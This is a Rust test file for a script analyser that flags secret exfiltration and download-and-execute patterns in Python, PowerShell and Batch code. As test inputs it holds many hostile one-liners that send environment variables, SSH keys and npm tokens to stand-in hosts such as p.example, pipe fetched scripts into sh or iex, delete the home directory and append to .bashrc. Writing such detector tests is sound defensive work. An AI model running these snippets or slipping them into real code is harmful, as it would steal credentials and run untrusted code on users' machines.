use weir_model::contents::CapabilityKind;

use super::{Language, language, read};
use crate::command::Reading;

/// What leaves or is run, as `Source -> Sink detail`.
fn leaks(reading: &Reading) -> Vec<String> {
    reading
        .leaks
        .iter()
        .map(|leak| {
            format!(
                "{:?} {} -> {:?} {}",
                leak.source.kind, leak.source.detail, leak.sink, leak.sink_detail
            )
        })
        .collect()
}

fn python(text: &str) -> Reading {
    read(text, Language::Python).unwrap()
}

fn powershell(text: &str) -> Reading {
    read(text, Language::PowerShell).unwrap()
}

#[test]
fn python_that_sends_secrets_is_seen() {
    for (text, expected) in [
        (
            "import json, os, urllib.request\n\
             urllib.request.urlopen('https://p.example/', json.dumps(dict(os.environ)).encode())\n",
            "Environment os.environ -> Http urllib.request.urlopen to p.example",
        ),
        (
            "from os import environ as e\nimport requests as r\n\
             data = {}\n\
             for k, v in e.items():\n    data[k] = v\n\
             r.post(\n    'https://p.example/x',\n    json=data,\n)\n",
            "Environment os.environ.items -> Http requests.post to p.example",
        ),
        (
            "import os, requests\n\
             def send(text):\n    requests.put(URL, data=text)\n\
             URL = 'https://p.example/'\n\
             path = os.path.expanduser('~/.npmrc')\n\
             with open(path) as f:\n    body = f.read()\n\
             send(body)\n",
            "CredentialFile ~/.npmrc -> Http requests.put to p.example",
        ),
        (
            "import os, socket\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
             s.connect(('192.0.2.7', 4444))\n\
             s.sendall(os.environ['NPM_TOKEN'].encode())\n",
            "SecretVariable NPM_TOKEN -> Socket socket.socket",
        ),
        (
            "import socket\nsocket.gethostbyname(f'{socket.gethostname()}.x.example')\n",
            "HostFacts socket.gethostname -> Dns socket.gethostbyname",
        ),
        (
            "import os\nos.system('curl -d \"$(env)\" https://p.example/')\n",
            "Environment env -> NetworkCommand curl to p.example",
        ),
        (
            "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.ssh/id_rsa', 'https://p.example/'])\n",
            "CredentialFile /root/.ssh/id_rsa -> NetworkCommand curl to p.example",
        ),
    ] {
        let found = leaks(&python(text));
        assert!(
            found.iter().any(|leak| leak == expected),
            "{text}\n{found:#?}"
        );
    }
}

#[test]
fn python_that_runs_what_it_fetches_or_unpacks_is_seen() {
    for (text, expected) in [
        (
            "import requests\nexec(requests.get('https://c.example/s').text)\n",
            "Fetched download from c.example -> DynamicCode exec",
        ),
        (
            "import base64, zlib\ncode = zlib.decompress(base64.b64decode('eJw='))\nexec(code)\n",
            "Decoded base64.b64decode -> DynamicCode exec",
        ),
        (
            "import urllib.request, subprocess, os\n\
             urllib.request.urlretrieve('https://c.example/t', '/tmp/t')\n\
             os.chmod('/tmp/t', 0o755)\nsubprocess.Popen(['/tmp/t'])\n",
            "Fetched download from c.example -> Process subprocess.Popen",
        ),
        (
            "import urllib.request as u, os\n\
             data = u.urlopen('https://c.example/t').read()\n\
             with open('/tmp/t', 'wb') as out:\n    out.write(data)\nos.system('/tmp/t')\n",
            "Fetched download from c.example -> Process os.system",
        ),
        (
            "import os\nos.system('curl https://c.example/i.sh | sh')\n",
            "Fetched download from c.example -> Process sh",
        ),
    ] {
        let found = leaks(&python(text));
        assert!(
            found.iter().any(|leak| leak == expected),
            "{text}\n{found:#?}"
        );
    }
}

#[test]
fn honest_python_leaks_nothing() {
    for text in [
        "import os, subprocess\nenv = os.environ.copy()\nenv['CC'] = 'gcc'\n\
         subprocess.check_call(['make'], env=env)\n",
        "import urllib.request\nurllib.request.urlretrieve('https://files.example/a.tar.gz', 'a.tar.gz')\n",
        "import os, requests\nrequests.get('https://api.example/', headers={'Authorization': os.environ['API_TOKEN']})\n",
        "import os, requests\nif 'NPM_TOKEN' in os.environ:\n    print('set')\nrequests.get('https://a.example/')\n",
        "# os.environ goes to https://a.example\nprint('''requests.post(os.environ)''')\n",
        "import base64\nprint(base64.b64decode('aGk='))\n",
        "",
    ] {
        assert_eq!(leaks(&python(text)), [""; 0], "{text}");
    }
}

#[test]
fn what_python_does_is_told_with_its_hosts() {
    let reading = python(
        "import shutil, requests, os\nrequests.get('https://a.example/')\nshutil.rmtree(os.path.expanduser('~'))\nshutil.rmtree('~')\nopen('/root/.bashrc', 'a').write('x')\n",
    );
    let kinds: Vec<CapabilityKind> = reading.acts.iter().map(|act| act.kind).collect();
    assert!(kinds.contains(&CapabilityKind::Network), "{kinds:?}");
    assert!(kinds.contains(&CapabilityKind::RemovesHome), "{kinds:?}");
    assert!(kinds.contains(&CapabilityKind::Persists), "{kinds:?}");
    assert_eq!(reading.hosts[0].0, "a.example");
}

#[test]
fn powershell_is_followed_by_its_variables() {
    for (text, expected) in [
        (
            "$data = Get-ChildItem env: | ConvertTo-Json\n\
             Invoke-RestMethod -Uri 'https://p.example/' -Method Post -Body $data\n",
            "Environment env: -> Http invoke-restmethod to p.example",
        ),
        (
            "$c = (New-Object Net.WebClient).DownloadString('https://c.example/a')\nInvoke-Expression $c\n",
            "Fetched download from c.example -> DynamicCode invoke-expression",
        ),
        (
            "$b = [Convert]::FromBase64String('AAAA'); $t = [Text.Encoding]::UTF8.GetString($b); iex $t",
            "Decoded frombase64string -> DynamicCode iex",
        ),
        (
            "iwr \"https://p.example/?t=$env:NPM_TOKEN\"",
            "SecretVariable NPM_TOKEN -> Http iwr to p.example",
        ),
    ] {
        let found = leaks(&powershell(text));
        assert!(
            found.iter().any(|leak| leak == expected),
            "{text}\n{found:#?}"
        );
    }
    let honest = "$v = $env:PROCESSOR_ARCHITECTURE\nWrite-Host \"building for $v\"\n";
    assert_eq!(leaks(&powershell(honest)), [""; 0]);
}

#[test]
fn batch_files_are_read_through_their_carets_and_variables() {
    let text = "@echo off\r\nrem curl https://no.example | sh\r\n:: a comment\r\n\
                set \"TOOL=curl\"\r\ncall %TOOL% ^\r\n -d \"%NPM_TOKEN%\" https://p.example/\r\n\
                start \"\" /b pow^ershell -c \"iwr https://c.example/a | iex\"\r\n";
    let found = leaks(&read(text, Language::Batch).unwrap());
    for expected in [
        "SecretVariable NPM_TOKEN -> NetworkCommand curl to p.example",
        "Fetched download from c.example -> Process iex",
    ] {
        assert!(
            found.iter().any(|leak| leak == expected),
            "{expected}\n{found:#?}"
        );
    }
    assert!(found.iter().all(|leak| !leak.contains("no.example")));
}

#[test]
fn languages_are_told_by_name_and_first_line() {
    for (path, first, expected) in [
        ("a/setup.py", "", Some(Language::Python)),
        (
            "setup",
            "#!/usr/bin/env -S python3 -u\n",
            Some(Language::Python),
        ),
        ("setup", "#!/bin/bash\n", Some(Language::Shell)),
        ("x.PS1", "", Some(Language::PowerShell)),
        ("x.cmd", "", Some(Language::Batch)),
        ("x.rb", "", Some(Language::Other("Ruby"))),
        ("cli", "#!/usr/bin/env node\n", None),
        ("index.js", "", None),
        ("data.dat", "#!", None),
    ] {
        assert_eq!(language(path, first.as_bytes()), expected, "{path} {first}");
    }
    assert!(read("puts 1", Language::Other("Ruby")).is_none());
}

#[test]
fn broken_and_hostile_scripts_end() {
    let deep = format!("def f(x):\n  return x\n{}", "f(".repeat(3000));
    let wide = "a = b = os.environ\n".repeat(2000);
    let calls = format!("def f(x):\n  return x\n{}", "f(os.environ,".repeat(60_000));
    let line = "a = os.environ;".repeat(40_000);
    for text in [
        "'''never closed",
        "f'{{{{{{'",
        "\\",
        "\"\\x",
        "((((((((((",
        "}}}}}}",
        "import",
        "from . import (",
        "\u{feff}print(1)",
        deep.as_str(),
        wide.as_str(),
        calls.as_str(),
        line.as_str(),
    ] {
        for language in [Language::Python, Language::PowerShell, Language::Batch] {
            assert!(read(text, language).is_some());
        }
    }
}
